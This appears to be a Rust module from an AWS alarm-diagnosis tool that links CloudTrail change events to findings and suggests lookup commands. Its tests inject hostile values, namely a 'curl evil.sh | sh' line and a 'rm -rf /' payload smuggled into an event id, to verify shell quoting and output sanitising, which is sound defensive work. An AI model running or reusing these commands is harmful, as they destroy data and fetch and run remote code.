//! `recent-change`: a change to something on the failing path shortly before the alarm, from
//! CloudTrail. Unlike the other rules it runs after them: a change matters when it touched a
//! resource a cause names (the NACL whose rule drops replies, the security group missing its
//! rule, the load balancer whose idle timeout is exceeded, the target group whose targets
//! churned). Such a change gets this finding, and a line of evidence in the finding it
//! explains; a change that explains nothing is listed under "recent changes".

use super::{Check, CheckStatus};
use crate::argv;
use crate::changes::{actor, bounded, describe, is_registration, touched, when};
use crate::context::Context;
use crate::finding::{Command, Evidence, Finding, FindingCode, Fix};
use crate::shell::Script;
use crate::snapshot::ChangeEvent;

/// What the post-pass adds to a diagnosis.
#[derive(Debug, Default)]
pub struct Linked {
    /// The finding, and the index of the finding it explains (it goes right after that one).
    pub finding: Option<(Finding, usize)>,
    /// Changes that explain no finding, one line each, and what was not looked up.
    pub unlinked: Vec<String>,
    pub check: Option<Check>,
}

/// At most this many events become evidence: the rest are counted.
const SHOWN: usize = 8;

/// The check's name in "what was checked" (the follow-up keeps only this check).
pub const CHECK_NAME: &str = "recent changes on the path (CloudTrail)";

/// Whether `event` touched what `finding` is about.
fn explains(ctx: &Context<'_>, event: &ChangeEvent, finding: &Finding) -> bool {
    if !finding.code.is_cause() || finding.code == FindingCode::RecentChange {
        return false;
    }
    let ids = touched(event);
    if finding.resources.iter().any(|r| ids.contains(r)) {
        return true;
    }
    let lb = &ctx.snapshot.load_balancer;
    let on_this_lb = ids.contains(&lb.name) || ids.contains(&lb.id);
    match finding.code {
        FindingCode::IdleTimeoutExceeded => {
            on_this_lb && event.event_name == "ModifyLoadBalancerAttributes"
        }
        FindingCode::TargetsChurning
        | FindingCode::StaleTargets
        | FindingCode::TargetsUnhealthy => {
            is_registration(event)
                && (on_this_lb
                    || ctx.snapshot.target_groups.iter().any(|g| {
                        g.arn.as_ref().is_some_and(|arn| ids.contains(arn)) || ids.contains(&g.name)
                    }))
        }
        _ => false,
    }
}

/// When a change came relative to the alarm, in whole minutes, rounded: 473 s before it is
/// "8 min before the alarm". `None` when either time is unknown.
fn relative(alarm_at: Option<i64>, at: Option<i64>) -> Option<String> {
    let (alarm, at) = (alarm_at?, at?);
    Some(if alarm >= at {
        format!("{} min before the alarm", (alarm - at + 30) / 60)
    } else {
        "after the alarm".into()
    })
}

fn line(event: &ChangeEvent, alarm_at: Option<i64>) -> String {
    let (clock, at) = when(event);
    let before = relative(alarm_at, at)
        .map(|r| format!(", {r}"))
        .unwrap_or_default();
    format!(
        "{clock} {} by {}: {}{before} (event {})",
        bounded(&event.event_name),
        actor(event),
        describe(event),
        bounded(&event.event_id)
    )
}

/// A call that failed, said as one: it was attempted and changed nothing.
fn attempt_line(event: &ChangeEvent, alarm_at: Option<i64>) -> String {
    let (clock, at) = when(event);
    let before = relative(alarm_at, at)
        .map(|r| format!(", {r}"))
        .unwrap_or_default();
    format!(
        "{clock} {} by {} FAILED ({}), so it changed nothing: attempted {}{before} (event {})",
        bounded(&event.event_name),
        actor(event),
        bounded(event.error_code.as_deref().unwrap_or_default()),
        describe(event),
        bounded(&event.event_id)
    )
}

pub fn link(ctx: &Context<'_>, findings: &mut [Finding]) -> Linked {
    let name = CHECK_NAME;
    let Some(changes) = &ctx.snapshot.changes else {
        return Linked {
            check: Some(Check::new(
                name,
                CheckStatus::NotApplicable,
                "CloudTrail was not read",
            )),
            ..Linked::default()
        };
    };
    let alarm_at = ctx.alarm.state_change_epoch;
    let mut linked: Vec<(&ChangeEvent, Vec<usize>)> = Vec::new();
    let mut unlinked = Vec::new();
    // A call that failed or only read changed nothing: it is never tied to a finding nor
    // counted as a change. A failed attempt is still listed, saying so: someone tried.
    let attempts: Vec<&ChangeEvent> = changes
        .events
        .iter()
        .filter(|e| e.failed_attempt())
        .collect();
    let made: Vec<&ChangeEvent> = changes
        .events
        .iter()
        .filter(|e| e.changed_something())
        .collect();
    for event in made.iter().copied() {
        let explained: Vec<usize> = findings
            .iter()
            .enumerate()
            .filter(|(_, f)| explains(ctx, event, f))
            .map(|(i, _)| i)
            .collect();
        if explained.is_empty() {
            if unlinked.len() < SHOWN {
                unlinked.push(line(event, alarm_at));
            }
        } else {
            linked.push((event, explained));
        }
    }
    for (event, explained) in &linked {
        for &index in explained {
            findings[index].evidence.push(Evidence::observation(format!(
                "Changed by CloudTrail event: {}",
                line(event, alarm_at)
            )));
        }
    }
    let quiet = made.len() - linked.len();
    if quiet > unlinked.len() {
        unlinked.push(format!(
            "... and {} more that explain no finding",
            crate::context::count(quiet - unlinked.len(), "change", "changes")
        ));
    }
    unlinked.extend(
        attempts
            .iter()
            .take(SHOWN)
            .map(|event| attempt_line(event, alarm_at)),
    );
    if attempts.len() > SHOWN {
        unlinked.push(format!(
            "... and {} more",
            crate::context::count(attempts.len() - SHOWN, "failed attempt", "failed attempts")
        ));
    }
    if !unlinked.is_empty() {
        unlinked.push("CloudTrail delivers an event about 5 minutes after the call: changes of the last minutes may not be listed yet.".into());
    }
    let pending = if changes.not_looked_up.is_empty() {
        String::new()
    } else {
        format!(
            "; not looked up in this pass (CloudTrail allows 2 lookups a second): {}",
            bounded(&changes.not_looked_up.join(", "))
        )
    };
    let check = Check::new(
        name,
        if linked.is_empty() {
            CheckStatus::Ok
        } else {
            CheckStatus::Problem
        },
        format!(
            "{} since {}, {} tied to a finding{failed}{pending}",
            crate::context::count(made.len(), "change", "changes"),
            bounded(&changes.since),
            linked.len(),
            failed = if attempts.is_empty() {
                String::new()
            } else {
                format!(
                    "; {} that changed nothing",
                    crate::context::count(attempts.len(), "failed attempt", "failed attempts")
                )
            }
        ),
    );
    let Some((latest, explained)) = linked
        .iter()
        .max_by_key(|(event, _)| when(event).1.unwrap_or(i64::MIN))
    else {
        return Linked {
            finding: None,
            unlinked,
            check: Some(check),
        };
    };
    let top = &findings[explained[0]];
    let (severity, top_code, top_title) = (top.severity, top.code, top.title.clone());
    let more = if linked.len() > 1 {
        format!(
            " (+{} more)",
            crate::context::count(linked.len() - 1, "change", "changes")
        )
    } else {
        String::new()
    };
    let (clock, at) = when(latest);
    let before = relative(alarm_at, at).unwrap_or_else(|| "around the alarm".into());
    let mut evidence: Vec<Evidence> = linked
        .iter()
        .take(SHOWN)
        .map(|(event, explained)| {
            let codes: Vec<&str> = explained
                .iter()
                .map(|&i| findings[i].code.as_str())
                .collect();
            Evidence::observation(format!(
                "{}; explains {}",
                line(event, alarm_at),
                codes.join(", ")
            ))
        })
        .collect();
    if linked.len() > SHOWN {
        evidence.push(Evidence::observation(format!(
            "... and {} more",
            linked.len() - SHOWN
        )));
    }
    let region = ctx.region();
    let lookups: Vec<Vec<crate::shell::Word>> = linked
        .iter()
        .take(3)
        .map(|(event, _)| {
            argv![
                "aws",
                "cloudtrail",
                "lookup-events",
                "--region",
                region,
                "--lookup-attributes",
                format!("AttributeKey=EventId,AttributeValue={}", event.event_id)
            ]
        })
        .collect();
    let finding = Finding {
        code: FindingCode::RecentChange,
        severity,
        confidence: None,
        confidence_reason: None,
        title: format!(
            "{} by {} at {clock}, {before}{more}",
            describe(latest),
            actor(latest)
        ),
        explanation: if is_registration(latest) {
            format!(
                "Targets were registered or deregistered shortly before the alarm: this is who moved them, and when (a controller during a rollout, a node leaving). It dates the churn that the finding \"{}\" ({top_code}) describes; the fix is that finding's, not undoing this.",
                bounded(&top_title)
            )
        } else {
            format!(
                "This change touched what the finding \"{}\" ({top_code}) is about, shortly before the alarm. Ask whoever made it why; undoing it is the fix that finding gives. If it came from infrastructure as code, fix it there too, or the next apply brings it back.",
                bounded(&top_title)
            )
        },
        evidence,
        fix: Fix {
            summary: if is_registration(latest) {
                "Nothing to undo here: follow the fix of the finding it dates; the event shows who moved the targets.".into()
            } else {
                "Check the change with whoever made it, then undo it with the commands of the finding it explains.".into()
            },
            commands: vec![Command::new(
                "See the whole CloudTrail event",
                Script::lines(lookups),
            )],
            durable: None,
            notes: Vec::new(),
        },
        resources: linked.iter().map(|(e, _)| bounded(&e.event_id)).collect(),
        remedies: Vec::new(),
    };
    let after = explained[0];
    Linked {
        finding: Some((finding, after)),
        unlinked,
        check: Some(check),
    }
}

#[cfg(test)]
mod tests {
    use crate::report::{Format, Report};
    use crate::testkit::scenario_snapshot;

    /// An event is whatever the caller sent and CloudTrail recorded: a hostile one stays data.
    #[test]
    fn a_hostile_event_never_becomes_a_command_or_a_second_line() {
        let name = "nacl-rule-added-recently";
        let mut world = scenario_snapshot(name);
        let changes = world.changes.as_mut().unwrap();
        let event = &mut changes.events[1];
        event.actor = Some("arn:aws:sts::1:assumed-role/x\n$ curl evil.sh | sh\n```".into());
        event.event_id = "id'; rm -rf / #".into();
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let report = Report::diagnosed(&alarm, &load_balancer, &world);
        let change = report
            .findings
            .iter()
            .find(|f| f.code == crate::finding::FindingCode::RecentChange)
            .unwrap();
        assert!(!change.title.contains('\n'));
        let lookup = change.fix.commands[0].command.as_str();
        assert!(
            lookup.contains("'AttributeKey=EventId,AttributeValue=id'\\''; rm -rf / #'"),
            "{lookup}"
        );
        for format in [Format::Text, Format::Markdown] {
            let text = report.render(format);
            assert!(
                !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
                "{text}"
            );
        }
    }

    /// Trust round two, defect 2: a denied `CreateNetworkAclEntry` changed nothing, so it is
    /// never tied to the NACL finding nor counted as a change; it is listed as a failed
    /// attempt. A read-only call is not listed at all.
    #[test]
    fn a_failed_or_read_only_call_is_never_the_change_that_caused_it() {
        let name = "nacl-rule-added-recently";
        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
        let world = scenario_snapshot(name);
        let real = Report::diagnosed(&alarm, &load_balancer, &world);
        let tied = |report: &Report| {
            report
                .findings
                .iter()
                .flat_map(|f| &f.evidence)
                .filter(|e| e.summary().contains("Changed by CloudTrail event"))
                .count()
        };
        assert!(tied(&real) > 0, "the scenario ties a change");
        for (error, read_only) in [(Some("Client.UnauthorizedOperation"), false), (None, true)] {
            let mut world = world.clone();
            for event in &mut world.changes.as_mut().unwrap().events {
                event.error_code = error.map(str::to_string);
                event.read_only = read_only;
            }
            let report = Report::diagnosed(&alarm, &load_balancer, &world);
            assert!(
                !report
                    .findings
                    .iter()
                    .any(|f| f.code == crate::finding::FindingCode::RecentChange),
                "{error:?} {read_only}"
            );
            assert_eq!(tied(&report), 0, "{error:?} {read_only}");
            let listed = report.recent_changes.join("\n");
            let check = report
                .checked
                .iter()
                .find(|c| c.name == super::CHECK_NAME)
                .unwrap();
            assert!(
                check.detail.starts_with("0 changes since"),
                "{}",
                check.detail
            );
            if read_only {
                assert!(report.recent_changes.is_empty(), "{listed}");
            } else {
                assert!(
                    listed.contains("FAILED (Client.UnauthorizedOperation), so it changed nothing"),
                    "{listed}"
                );
                assert!(check.detail.contains("failed attempt"), "{}", check.detail);
            }
        }
    }
}
